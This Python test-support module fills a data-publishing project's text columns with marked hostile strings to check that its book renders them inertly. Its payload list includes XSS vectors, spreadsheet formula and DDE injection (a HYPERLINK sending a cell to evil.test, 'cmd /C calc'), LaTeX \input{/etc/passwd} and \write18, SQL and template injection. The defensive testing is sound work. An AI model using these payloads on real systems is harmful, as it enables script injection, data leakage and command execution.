"""Text that would do harm where it is taken for anything but text, put into every text column of a package.

Every text bears a mark of its own, so that whatever shows it, or lets it act, can be told by its column.
"""

import csv
import re
from dataclasses import dataclass

import miniature
import small_package
import yaml

from after_soleimani.dataset.schema import read_schema

LONG = 10_000
NO_BRACES = "[^{}]+"  # the pattern of a column that becomes BibTeX, which counts them
SITE = "https://book.test/"
#: What a script does to say that it was run: in the page, and where a frame has got at it.
DONE = "window.pwned='{mark}'"
#: How a cell begins, and what follows its mark.
KINDS = (
    ("", f'<img src=x onerror="{DONE}">'),
    ('=HYPERLINK("https://evil.test/?"&A1,"x")', f"<svg onload={DONE}>"),
    ("+cmd|' /C calc'!A0", f"</script><script>{DONE}</script>"),
    ("@SUM(1+1)*cmd", f'"><iframe src="javascript:parent.pwned=1"></iframe><a href="javascript:{DONE}">'),
    ("-2+3", f"' onmouseover='{DONE}' x='"),
    ("\uff1d1+1", "]]> --> <!-- <?xml?> &evil; </textarea></title></style><style>*{display:none}</style>"),
    ("#", f"[x](javascript:{DONE}) ![y](https://evil.test/y.png) <https://evil.test> [z](#n-z)"),
    ("%", "{raw:html}`<b>x</b>` {glue}`x` {numref}`no` {cite}`nobody` {{ 7*7 }} {% raw %} {eval-rst}"),
    ("$", r"$$\frac{1}{ $x^2$ \input{/etc/passwd} \write18{x} \ } { % ~ ^ ``x''"),
    ("|", "`` ` ``` ~~~ ::: *a* **b** _c_ | a | b | (t)= +++ ,<wbr> – ; \u00b6 [1]_ |x|"),
    ("\U0001f469\u200d\U0001f52c", "Z\u0351\u036b\u034f \u200f\u0627 \u200b\ufeff\u00ad \U000e0041"),
    ("&lt;b&gt;", r"&amp; &#60;i&#62; %3Cscript%3E \u003cscript\u003e \x00 \n %00 12,000 ' OR 1=1; --"),
)  # fmt: skip
#: The same for what charts print: short, and of characters that the font of the charts has.
SHORT = (
    "<{mark}>",
    "${mark}$",
    '"{mark}&',
    "={mark}'",
    "`{mark}`",
    "@{mark}>",
    "%{mark}\\",
    "*{mark}*",
    "[{mark}]",
)
MARK = re.compile(r"Q[0-9A-Z]{3,5}Q")
#: A column → another one of which it must hold the very values.
SAME = {("figures", "unit"): ("quantities", "unit")}


#: Rows for tables of which the small package has none, an actor who goes by the role, and a tie that networks
#: hold.
MORE = [
    ("actors", {"actor_id": "minor", "minor": "true", "evidence_ids": "E0001"}),
    ("actors", {"actor_id": "front", "family": "factions", "minor": "false", "evidence_ids": "E0001"}),
    (
        "ties",
        {
            "tie_id": "T901", "actor_id": "front", "target_id": "fatah", "event_type": "AGREE",
            "start": "2021-11-07", "date_precision": "day", "status": "reported", "evidence_ids": "E0001",
        },
    ),
    ("overtaken", {"overtaken_id": "O01", "evidence_ids": "E0001"}),
    (
        "orders",
        {
            "order_id": "O01", "asked_by_ids": "qaani", "asked_of_ids": "sadr", "reported_at": "2021",
            "evidence_ids": "E0001",
        },
    ),
    ("tempo", {"tempo_id": "W01", "evidence_ids": "E0001"}),
    (
        "former_judgements",
        {"judgement_id": "J02", "chapter": "succession", "edition": "0.3.0", "successor": "J01"},
    ),
    ("second_coding", {"coding_id": "D001", "source_id": "paper", "paragraph": "1"}),
]  # fmt: skip
IMPORTS = (
    "from after_soleimani.dataset import load\n"
    "from after_soleimani.evidence import judgements_of\n"
    "from after_soleimani.exhibits import Box, Exhibit, Former, Number, glue, reference_table\n"
    "from after_soleimani.exhibits.sources import pages, register\n\ndata = load()"
)
LOOKUP = "reference_table(pages.{0}(data), row_id={1!r}, caption='{0}', noun='rows')"
EVERY_TABLE = """from IPython.display import display

for table in data.schema:
    columns = [field.name for field in table if field.type == "string"]
    name, said = f"hostile-{table.name.replace('_', '-')}", f"Text of {table.name}."
    display(Exhibit(name=name, caption=said, alt=said, table=data.tables[table.name][columns]))"""
CHART = """from after_soleimani.charts.kit.style import direct_label, link_mark, new_figure

figure, ax = new_figure(4)
ax.set_yticks(range(len(LABELS)), LABELS)
for place, (label, said) in enumerate(zip(LABELS, data.evidence["statement"])):
    link_mark(ax.scatter([place], [place], color="#1f2328"), ["E0001"], f"{label} {said}")
Exhibit(
    name="hostile-chart", title=TITLE, caption="Marks.", alt=data.actors["name"][1],
    table=data.actors[["name"]], figure=figure, note=data.actors["description"][1],
    sources=data.sources.set_index("source_id")["short_name"].to_dict(), evidence=["E0001"],
)"""
NUMBERS = """words = data.quantities["quantity"][1]
glue(
    told=Number(data.actors["name"][1], words, "hostile-chart"),
    bare=data.actors["name"][2],
)"""
#: Table → its columns that charts of the real book print.
IN_CHARTS = {
    "actors": "description name",
    "affiliations": "role",
    "blocs": "bloc wording",
    "camps": "camp",
    "cases": "what",
    "events": "description short_name",
    "evidence": "attributed_to",
    "figures": "wording",
    "forecasts": "statement",
    "heirs": "role",
    "hypotheses": "short",
    "issues": "as_of question",
    "lineages": "unit",
    "lists": "name short_name",
    "moves": "matter note said_by",
    "parentage": "confidence",
    "places": "name",
    "proceedings": "note step",
    "propositions": "short",
    "quantities": "base quantity stem unit",
    "questions": "question",
    "readings": "answer",
    "sessions": "note outcome purpose",
    "sources": "short_name",
    "tempo": "counter rule series wording",
    "ties": "description",
}
#: A text that no cell of the data has: what a chart prints, and what it is called.
LABELS, TITLE = (
    [text.format(mark=f"QZZ{n}Q") for n, text in enumerate(SHORT)],
    '<b>QZZTQ</b> $x$ {glue}`x` "&',
)


@dataclass(frozen=True)
class Column:
    """A text column: a string of free text, which is no id and no value of a list.

    `braces`: whether it may hold them; what becomes BibTeX may not. `long`: whether one of its texts is.
    """

    table: str
    name: str
    number: int
    braces: bool
    long: bool

    def mark(self, place):
        """What the text at this place of the column can be told by."""
        return f"Q{_in_36(self.number):>02}{_in_36(place)}Q"

    def text(self, place):
        """Hostile text for this place; the first one is long."""
        begins, body = KINDS[(self.number + place) % len(KINDS)]
        mark = self.mark(place)
        text = f"{begins} {mark} {body.replace('{mark}', mark)}".strip()
        if not self.braces:
            text = text.replace("{", "").replace("}", "")
        return f"{text} {'W' * LONG}" if self.long and place == 0 else text

    def short(self, place):
        """Hostile text for this place that fits into a chart."""
        return SHORT[(self.number + place) % len(SHORT)].format(mark=self.mark(place))


def text_columns(root, long=1):
    """Every text column of the data package of `root`, in its order; every `long`-th has a long text."""
    found = [
        (table.name, field.name, field.pattern != NO_BRACES)
        for table in read_schema(root)
        for field in table
        if field.type == "string" and not (field.enum or field.refers_to or field.is_list)
        if field.pattern in (None, NO_BRACES)
    ]
    return [
        Column(table, name, number, braces, number % long == 0)
        for number, (table, name, braces) in enumerate(found)
    ]


def fill(root, *, in_charts=(), kept=frozenset(), empty=False, long=1):
    """Put hostile text into every text column of the package of `root`.

    Return column → what was there → the text: the same wherever there was the same. `in_charts`: columns, as
    (table, name), that get short text where there is room for it; `kept`: values that are asked for by name,
    and stay; `empty`: cells that state nothing are filled too; every `long`-th column has a long text.
    """
    schema, put = read_schema(root), {}
    columns = {(column.table, column.name): column for column in text_columns(root, long)}
    for table in schema:
        path = root / table.file
        rows = read_rows(path)
        for field in table:
            here = (table.name, field.name)
            asked = SAME.get(here, field.refers_to or here)
            if (column := columns.get(asked)) is None:
                continue
            drawn, known = asked in in_charts, put.setdefault(asked, {})
            for row in rows:
                before = row[field.name]
                if before in kept or not (before or empty and _may_be_filled(table, field, row)):
                    continue
                key = before or f"nothing in row {len(known)}"
                text = known.get(key) or (column.short if drawn else column.text)(len(known))
                if not drawn or len(text) <= len(before):
                    row[field.name] = known[key] = text
        _write(path, list(table.fields), rows)
    return put


def copy_small_book(root, folder):
    """A small book that shows every table, filled with hostile text; return it, and what was put in."""
    book = miniature.copy_small_book(root, folder)
    for table, row in MORE:
        small_package.append(book, table, **row)
    put = fill(book, empty=True, long=6)
    link = "[E0001](evidence_register.ipynb#e0001)"
    # Not in the opening, where numbers would have to be headline numbers.
    prose = "# Succession\n\n{cite}`paper`.", f"[x](#n-told) and [x](#n-bare) are told ({link}). Second."
    labels = f"LABELS, TITLE = {LABELS!r}, {TITLE!r}"
    judged = book / "data" / "judgements" / "judgements.csv"
    miniature.change_cell(judged, lambda row: True, "exhibits", lambda _: "hostile-chart")
    boxes = "Box(judgements_of(data, 'succession'))", "Former(data.former_judgements)"
    pages = {
        "summary": ["# Summary\n\n{cite}`wire`. See {numref}`hostile-chart`."],
        "succession": [prose, IMPORTS, NUMBERS, labels, CHART, *boxes],
        "actors": ["# Actors", IMPORTS, LOOKUP.format("actors", "Id"), LOOKUP.format("minor_persons", None)],
        "chronology": [
            "# Chronology", IMPORTS, LOOKUP.format("chronology", "Id"),
            LOOKUP.format("left_out_of_chronology", None),
        ],
        "origins": [
            "# Origins", IMPORTS, LOOKUP.replace("pages", "register").format("origins", "Origin")
        ],
        "tables": ["# Tables", IMPORTS, EVERY_TABLE],
    }  # fmt: skip
    for name, cells in pages.items():
        miniature.write_notebook(book, name, cells)
    contents = yaml.safe_load((book / "_toc.yml").read_text(encoding="utf-8"))
    there = {each["file"] for each in contents["chapters"]} | {contents["root"]}
    contents["chapters"] += [
        {"file": f"chapters/{name}"} for name in pages if f"chapters/{name}" not in there
    ]
    (book / "_toc.yml").write_text(yaml.safe_dump(contents, sort_keys=False), encoding="utf-8")
    miniature.replace_in(book / "_config.yml", '    html_baseurl: ""', f'    html_baseurl: "{SITE}"')
    return book, put


def copy_whole_book(root, folder):
    """The whole book on hostile text; return it, and what was put in.

    What the code of the package asks for by name stays as it is.
    """
    book = miniature.copy_project(root, folder)
    code = "\n".join(path.read_text(encoding="utf-8") for path in book.glob("after_soleimani/**/*.py"))
    asked = {text for pair in re.findall(r"\"([^\"\n]+)\"|'([^'\n]+)'", code) for text in pair if text}
    drawn = {(table, column) for table, columns in IN_CHARTS.items() for column in columns.split()}
    put = fill(book, in_charts=drawn, kept=asked)
    miniature.replace_in(book / "_config.yml", '    html_baseurl: ""', f'    html_baseurl: "{SITE}"')
    return book, put


def _may_be_filled(table, field, row):
    """Not where a rule of the package, or the table that is referred to, asks for an empty cell."""
    return not field.refers_to and not (field.name == "left_out" and row["event_id"])


def _in_36(number):
    digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    return (_in_36(number // 36) if number >= 36 else "") + digits[number % 36]


def read_rows(path):
    """The rows of a table's file, as text."""
    with path.open(encoding="utf-8", newline="") as lines:
        return list(csv.DictReader(lines))


def _write(path, fields, rows):
    with path.open("w", encoding="utf-8", newline="") as lines:
        writer = csv.DictWriter(lines, fields, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
